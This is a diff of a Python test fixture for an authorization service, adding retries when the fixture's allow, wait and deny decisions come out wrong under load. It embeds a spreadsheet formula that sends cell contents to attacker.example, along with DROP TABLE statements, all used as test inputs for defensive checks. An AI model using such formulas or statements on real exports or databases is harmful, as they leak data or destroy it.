@@ -9,26 +9,39 @@ from pathlib import Path
 from typing import Any
 
 from counterfoil.cli import main
-from deployment import Deployment, deployed
+from deployment import Deployment, Tenant, deployed
 from service import sql_request
 
 FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"ok")'
 _ASKED = {"DROP TABLE public.invoices": "needs_approval", "SELECT 1; DROP TABLE secret": "deny"}
+_ATTEMPTS = 3
 Export = Callable[..., tuple[Path, dict[str, Any]]]
 
 
 @contextmanager
 def exportable(folder: Path) -> Iterator[Deployment]:
-    """In each tenant: an allow with its outcome, one that waits, and a deny."""
-    with deployed(folder) as started:
-        for tenant in (started.acme, started.globex):
-            run = started.opened(tenant, prompt=FORMULA)["access_token"]
-            allowed = started.ask(run)["decision_id"]
-            started.call("POST", f"/decisions/{allowed}/outcome", run, {"status": "ok"})
-            for sql, effect in _ASKED.items():
-                answer = started.call("POST", "/authorize", run, sql_request(sql, None))
-                assert answer.json["effect"] == effect, answer.json  # not for want of time
-        yield started
+    """In each tenant: an allow with its outcome, one that waits, and a deny.
+
+    On a machine so loaded that a reader came too late (a deny of its own), all is made anew.
+    """
+    for attempt in range(_ATTEMPTS):
+        (folder / str(attempt)).mkdir()
+        with deployed(folder / str(attempt)) as started:
+            if all(_told(started, tenant) for tenant in (started.acme, started.globex)):
+                yield started
+                return
+    raise AssertionError(f"{_ATTEMPTS} times another decision than this policy's")
+
+
+def _told(started: Deployment, tenant: Tenant) -> bool:
+    run = started.opened(tenant, prompt=FORMULA)["access_token"]
+    allowed = started.ask(run)
+    started.call("POST", f"/decisions/{allowed['decision_id']}/outcome", run, {"status": "ok"})
+    answers = {
+        sql: started.call("POST", "/authorize", run, sql_request(sql, None)).json["effect"]
+        for sql in _ASKED
+    }
+    return allowed["effect"] == "allow" and answers == _ASKED
 
 
 def auditor_arguments(deployment: Deployment, folder: Path) -> list[str]:
